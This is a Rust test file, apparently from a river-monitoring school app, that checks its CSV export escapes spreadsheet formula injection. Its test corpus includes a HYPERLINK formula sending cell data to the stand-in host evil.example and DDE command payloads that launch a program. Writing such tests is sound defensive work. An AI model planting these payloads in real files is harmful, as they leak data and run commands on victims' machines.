//! Text that a spreadsheet would run must stay text, and come back as it was typed.

use entity::{measurement, parameter, water};
use gcampus::measurement::refresh_at_waters;
use sea_orm::{ActiveModelTrait, ActiveValue::Set, ColumnTrait, EntityTrait, QueryFilter};

use super::{COLUMNS, csv};
use crate::{
    measurement::{place, published, with},
    support::{TestApp, on_both_databases},
};

/// What OWASP and others have collected, and what only looks like it.
pub(super) const CORPUS: [&str; 14] = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klick\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 6221 123",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "\"=1+1\"",
    "a,b;c\r\n\"d\"",
    "'=1+1",
    "Neckar = Fluss",
];

/// Whether a spreadsheet looks further than the first sign.
fn is_dangerous(text: &str) -> bool {
    text.starts_with(['\t', '\r']) || text.trim_start().starts_with(['=', '+', '-', '@', '＝'])
}

/// A measurement for each text, which stands wherever people may write; tells the numbers.
pub(super) async fn write_corpus(site: &TestApp) -> Vec<i64> {
    let course = site.course("9b", 1).await;
    let river = site.neckar().await;
    let pupil = site.student(&course).await;
    let db = site.app.db.read();
    let mut ids = Vec::new();
    for (day, text) in (1..).zip(CORPUS) {
        let form = with(&place(river.id), &[("time_0_0", &format!("{day}")), ("time_0_1", "5")]);
        let id = published(&pupil, &form, &[("12", "-3.5", "")]).await;
        let row = measurement::ActiveModel {
            id: Set(id),
            name: Set(text.to_owned()),
            note: Set(text.to_owned()),
            location_name: Set(Some(text.to_owned())),
            ..Default::default()
        };
        row.update(db).await.expect("texts");
        let noted = parameter::ActiveModel { note: Set(text.to_owned()), ..Default::default() };
        let which = parameter::Column::MeasurementId.eq(id);
        parameter::Entity::update_many().set(noted).filter(which).exec(db).await.expect("a note");
        ids.push(id);
    }
    let named = water::ActiveModel { id: Set(river.id), name: Set(Some("=Neckar".to_owned())), ..Default::default() };
    named.update(db).await.expect("a name");
    let txn = site.app.db.begin().await.expect("a transaction");
    refresh_at_waters(&txn, &[river.id], site.app.clock.now()).await.expect("refreshed");
    txn.commit().await.expect("kept");
    ids
}

on_both_databases! {
    async fn no_cell_of_the_table_is_a_formula_and_numbers_are_numbers(site: &TestApp) {
        let ids = write_corpus(site).await;
        let rows = csv(&site.visitor(), "").await;
        for (id, text) in ids.iter().zip(CORPUS) {
            let row = rows.iter().find(|row| row[4] == id.to_string() && row[0] == "temp").expect("a row");
            for name in ["note", "measurement_note", "location_name", "measurement_name"] {
                let place = COLUMNS.iter().position(|known| *known == name).expect("a column");
                let expected = if is_dangerous(text) { format!("'{text}") } else { text.to_owned() };
                assert_eq!(row[place], expected, "{name}");
            }
            assert_eq!((row[2].as_str(), row[6].as_str()), ("-3.5", "'=Neckar"));
        }
        for field in rows.iter().flatten() {
            assert!(!is_dangerous(field) || field.parse::<f64>().is_ok(), "{field:?}");
        }
    }
}
